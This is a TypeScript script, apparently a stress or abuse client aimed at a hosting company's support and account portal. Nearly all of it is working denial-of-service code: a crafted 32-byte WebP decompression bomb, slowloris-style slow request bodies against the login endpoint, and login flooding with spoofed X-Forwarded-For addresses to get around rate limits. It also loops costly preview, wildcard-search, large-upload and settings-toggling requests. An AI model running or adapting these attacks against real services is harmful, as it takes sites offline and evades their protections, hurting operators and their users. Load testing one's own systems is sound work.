import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

// One client that does its worst until it is ended: `abuser.ts <attack> <portal> <token> <account>`.

const [attack = '', portal = '', token = '', account = ''] = process.argv.slice(2);

const CONNECTIONS = 8;
const SLOW_CONNECTIONS = 90;

const signedIn = { authorization: `Bearer ${token}`, 'x-forwarded-for': '192.0.2.66' };
const asJson = { ...signedIn, 'content-type': 'application/json' };
const somewhere = () => [...randomBytes(4)].join('.');

function send(method: string, path: string, body: unknown, headers: Record<string, string> = asJson) {
  return fetch(portal + path, {
    method,
    headers,
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
}

function form(files: readonly Uint8Array<ArrayBuffer>[]): Promise<Response> {
  const body = new FormData();
  body.set('issue_type', 'tech');
  body.set('editor_content', 'See the files');
  for (const [index, file] of files.entries()) body.append('attachments', new Blob([file]), `${index}.webp`);
  return fetch(`${portal}/api/support`, { method: 'POST', headers: signedIn, body });
}

/** A WebP of 32 bytes: one color over `side` x `side` pixels. */
function oneColor(side: number): Uint8Array<ArrayBuffer> {
  const bits: number[] = [];
  const put = (value: number, count: number) => {
    for (let bit = 0; bit < count; bit += 1) bits.push((value >> bit) & 1);
  };
  put(0x2f, 8);
  put(side - 1, 14);
  put(side - 1, 14);
  // No alpha, version 0; no transform, no color cache, no groups; then five codes of one symbol each.
  put(0, 1 + 3 + 1 + 1 + 1);
  for (let code = 0; code < 5; code += 1) put(0b0001, 4);
  while (bits.length % 16 !== 0) bits.push(0);
  const data = Buffer.alloc(bits.length / 8);
  for (const [index, bit] of bits.entries())
    data[index >> 3] = (data[index >> 3] ?? 0) | (bit << (index & 7));
  const head = Buffer.from('RIFF....WEBPVP8L....', 'latin1');
  head.writeUInt32LE(12 + data.length, 4);
  head.writeUInt32LE(data.length, 16);
  return new Uint8Array(Buffer.concat([head, data]));
}

function drip(): void {
  const { hostname, port } = new URL(portal);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => undefined);
  socket.write(
    'POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{',
  );
  const timer = setInterval(() => socket.writable && socket.write(' '), 500);
  socket.once('close', () => {
    clearInterval(timer);
    drip();
  });
}

const costlyText = '<a href="https://a.b">x</a>'.repeat(3_700);
const noise = new Uint8Array(randomBytes(2_097_152));
const bomb = oneColor(6_300);
let count = 0;

const attacks: Record<string, () => Promise<unknown>> = {
  pictures: () => form([bomb, bomb, bomb, bomb]),
  previews: () => send('POST', '/api/support/preview', { editor_content: costlyText }),
  'sign-ins': () =>
    send(
      'POST',
      '/api/auth/login',
      { email: `nobody${(count += 1)}@example.com`, password: 'quiet-harbour' },
      { 'content-type': 'application/json', 'x-forwarded-for': somewhere() },
    ),
  operations: () =>
    send('POST', '/api/website/performance/webserver', {
      plesk_id: account,
      domain_name: `abused${(count += 1) % 20}.example.com`,
      new_state: count % 2 ? 'enabled' : 'disabled',
      performance_option: 'static_file_cache',
    }),
  uploads: () => form([noise, noise, noise, noise]),
  searches: () =>
    send(
      'GET',
      `/api/support/agent/super/tickets?search=${encodeURIComponent('% _ a'.repeat(30))}`,
      undefined,
    ),
};

if (attack === 'slow bodies') {
  for (let index = 0; index < SLOW_CONNECTIONS; index += 1) drip();
} else {
  const once = attacks[attack];
  if (once === undefined) throw new Error(`There is no attack "${attack}"`);
  const again = async (): Promise<never> => {
    for (;;) {
      const answer = await once().catch(() => undefined);
      if (answer instanceof Response) await answer.arrayBuffer().catch(() => undefined);
      // Far above every limit, and yet little of this machine's own processor time.
      if (!(answer instanceof Response) || answer.status === 429) await sleep(50);
    }
  };
  for (let index = 0; index < CONNECTIONS; index += 1) void again();
}
